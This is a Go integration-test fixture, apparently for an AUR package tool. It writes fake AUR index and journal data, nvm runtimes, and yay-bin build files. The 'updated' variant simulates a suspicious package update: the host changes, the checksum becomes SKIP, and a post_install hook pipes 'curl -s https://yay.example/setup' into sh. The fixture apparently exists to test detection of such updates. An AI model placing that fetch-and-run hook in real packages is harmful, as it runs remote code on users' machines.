package demo

import (
	"encoding/json"
	"os"
	"strconv"
	"strings"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/omg-arch/omg/integration/fakeserver"
	"github.com/omg-arch/omg/integration/harness"
)

// Now is the time at which the data of WriteJournal is current.
var Now = time.Date(2022, 7, 10, 9, 30, 0, 0, time.UTC)

// AUR returns the packages of the AUR.
func AUR() (all []fakeserver.Package) {
	for i, line := range aurPackages {
		f := strings.SplitN(line, " ", 5)
		votes, _ := strconv.Atoi(f[2])
		popularity, _ := strconv.ParseFloat(f[3], 64)
		maintainer := "maintainer" + strconv.Itoa(i)
		all = append(all, fakeserver.Package{Record: fakeserver.Record{
			ID: i + 1, Name: f[0], PackageBaseID: i + 1, PackageBase: f[0], Version: f[1], Description: &f[4], NumVotes: votes, Popularity: popularity,
			Maintainer: &maintainer, FirstSubmitted: 1_500_000_000, LastModified: 1_657_000_000,
		}})
	}
	return all
}

// WriteJournal writes an index of the AUR and a journal with two dumps into a data directory: on the day before Now, google-chrome was
// orphaned, adopted and updated. The other packages of the AUR have not changed.
func WriteJournal(s *harness.System, dataDir string) {
	s.T.Helper()
	before := AUR()
	before[0].Maintainer, before[0].Version = nil, "102.0.5005.61-1"
	after, adopter, outOfDate := AUR(), "newcomer", Now.Add(-48*time.Hour).Unix()
	after[0].Maintainer, after[0].LastModified = &adopter, Now.Add(-12*time.Hour).Unix()
	after[3].OutOfDate = &outOfDate
	var dumps [2]string
	for i, packages := range [][]fakeserver.Package{before, after} {
		dumps[i] = jsonText(packages)
	}
	writeJournal(s, dataDir, dumps[0], dumps[1])
}

// jsonText returns a value as JSON. The value can always be encoded.
func jsonText(v any) string {
	text, _ := json.Marshal(v)
	return string(text)
}

// writeJournal writes an index of the AUR and a journal into a data directory, from two dumps that are a day apart. The second one is 6 hours
// old at the time Now.
func writeJournal(s *harness.System, dataDir, before, after string) {
	t := s.T
	t.Helper()
	index, old, latest := dataDir+"/index", dataDir+"/before.json", dataDir+"/after.json"
	require.NoError(t, os.MkdirAll(index, 0o755))
	for path, dump := range map[string]struct {
		text string
		age  time.Duration
	}{old: {before, 30 * time.Hour}, latest: {after, 6 * time.Hour}} {
		harness.WriteFile(t, path, dump.text)
		require.NoError(t, os.Chtimes(path, time.Time{}, Now.Add(-dump.age)))
	}
	for _, args := range [][]string{
		{"journal", "--to", index + "/aur.omgjournal", old},
		{"journal", "--to", index + "/aur.omgjournal", old, latest},
		{"build", "--aur", latest, "--data-dir", dataDir, "--dbpath", s.DB, "--pacman-config", s.PacmanConf},
	} {
		r := s.Run("omg-index", args...)
		require.Zero(t, r.Code, r.Stderr)
	}
}

// The build files of yay-bin, before and after an update that looks bad.
const (
	pkgbuild = `pkgname=yay-bin
pkgver=11.1.2
pkgrel=1
arch=(x86_64)
source=("https://github.com/Jguer/yay/releases/download/v$pkgver/yay_$pkgver.tar.gz")
sha256sums=(4ea4eb8abfb1b9a8cfa1bbc5a9ebb2e1c3fae0e0fdc5f9dd7bd9ec5d0f2a6a35)
package() {
	install -Dm755 yay "$pkgdir/usr/bin/yay"
}
`
	srcinfo = `pkgbase = yay-bin
	pkgver = 11.1.2
	pkgrel = 1
	arch = x86_64
	source = https://github.com/Jguer/yay/releases/download/v11.1.2/yay_11.1.2.tar.gz
	sha256sums = 4ea4eb8abfb1b9a8cfa1bbc5a9ebb2e1c3fae0e0fdc5f9dd7bd9ec5d0f2a6a35

pkgname = yay-bin
`
	installScript = "post_install() {\n\tcurl -s https://yay.example/setup | sh\n}\n"
)

// WriteBuildFiles writes the build files of yay-bin into yay's directory in the home directory. If updated is true, they are those after
// an update to version 11.2.0, with another host, without a checksum, and with an install script.
func WriteBuildFiles(s *harness.System, updated bool) {
	s.T.Helper()
	change := strings.NewReplacer()
	if updated {
		change = strings.NewReplacer("11.1.2", "11.2.0", "github.com/Jguer/yay/releases/download", "yay.example", "4ea4eb8abfb1b9a8cfa1bbc5a9ebb2e1c3fae0e0fdc5f9dd7bd9ec5d0f2a6a35", "SKIP",
			"pkgrel=1", "pkgrel=1\ninstall=yay.install", "pkgrel = 1", "pkgrel = 1\n\tinstall = yay.install")
		harness.WriteFile(s.T, s.Path(".cache/yay/yay-bin/yay.install"), installScript)
	}
	harness.WriteFile(s.T, s.Path(".cache/yay/yay-bin/PKGBUILD"), change.Replace(pkgbuild))
	harness.WriteFile(s.T, s.Path(".cache/yay/yay-bin/.SRCINFO"), change.Replace(srcinfo))
}

// WriteRuntimes writes two versions of node into nvm's directory in the home directory, and a project that needs the older one.
func WriteRuntimes(s *harness.System) {
	s.T.Helper()
	for _, version := range []string{"v18.20.4", "v20.11.0"} {
		harness.WriteProgram(s.T, s.Path(".nvm/versions/node", version, "bin/node"), "#!/bin/sh\n")
	}
	harness.WriteFile(s.T, s.Path("project/.nvmrc"), "18\n")
}
